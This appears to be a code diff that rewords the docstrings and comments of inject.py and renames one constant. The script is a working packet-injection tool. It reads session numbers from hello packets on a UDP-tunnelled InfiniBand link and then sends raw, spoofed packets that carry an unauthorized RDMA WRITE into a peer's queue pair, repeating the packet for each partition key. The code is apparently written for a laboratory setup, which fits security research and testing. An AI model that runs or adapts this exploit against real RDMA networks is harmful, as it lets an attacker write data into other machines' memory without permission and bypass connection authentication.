@@ -1,11 +1,14 @@
-"""An RDMA WRITE that a connection has not allowed, put on the UDP cable of a device as if the other end of the connection had sent it.
+"""Injects an RDMA WRITE without permission into the UDP cable of a device.
+
+The packet seems to come from the other end of a connection.
 
     inject.py LOCAL PEER DLID SLID QPN PSN
 
-LOCAL, PEER: IPv4 addresses of the cable's ends, the packet goes to PEER. QPN: the queue pair at PEER; PSN: the packet that
-it expects. Whatever its partition: the packet is sent for each that the laboratory has, and dropped but for one.
+LOCAL, PEER: IPv4 addresses of the ends of the cable; the packet goes to PEER.
+QPN: the queue pair at PEER. PSN: the packet sequence number that it expects.
 
-Both ends take packets only with the session numbers of both, which this program reads from the next hello on the cable.
+The program sends the packet once for each partition of the lab; the device drops all but one.
+Both ends accept only packets with the session numbers of both, which the program reads from the next hello.
 """
 
 import pathlib
@@ -21,14 +24,14 @@ PORT = 4800
 RC_WRITE_ONLY = 0x0A
 PKEYS = (0xFFFF, 0x8001)
 HELLO = b"\xffIBLINK\x02"
-# Seconds to wait for a hello; there are several in each.
-PATIENCE = 60
+# Seconds to wait for a hello; an end sends several per second.
+HELLO_TIMEOUT = 60
 
 
 def sessions(local, peer):
-    """The session numbers of the sender and of the receiver, as every packet from LOCAL to PEER ends with them."""
+    """Returns the session numbers of sender and receiver, the trailer of every packet from LOCAL to PEER."""
     with socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(3)) as wire:
-        wire.settimeout(PATIENCE)
+        wire.settimeout(HELLO_TIMEOUT)
         while True:
             packet = wire.recv(1 << 16)
             hello = packet[28:]
@@ -38,7 +41,7 @@ def sessions(local, peer):
 
 def main():
     local, peer = sys.argv[1:3]
-    dlid, slid, qpn, psn = (int(word, 0) for word in sys.argv[3:])
+    dlid, slid, qpn, psn = (int(number, 0) for number in sys.argv[3:])
     trailer = sessions(local, peer)
     reth = struct.pack(">QII", 0x1000, 0x100, 4)
     with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
@@ -46,7 +49,7 @@ def main():
             bth = ibwire.bth(RC_WRITE_ONLY, qpn, psn, pkey, ack=True)
             packet = ibwire.finish(ibwire.lrh(dlid, slid) + bth + reth + b"gift") + trailer
             datagram = struct.pack(">HHHH", PORT, PORT, 8 + len(packet), 0) + packet
-            # The kernel fills in what is zero, and the checksum.
+            # The kernel fills in zero fields and the checksum.
             header = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(datagram), 0, 0, 64, socket.IPPROTO_UDP, 0,
                                  socket.inet_aton(local), socket.inet_aton(peer))
             raw.sendto(header + datagram, (peer, 0))
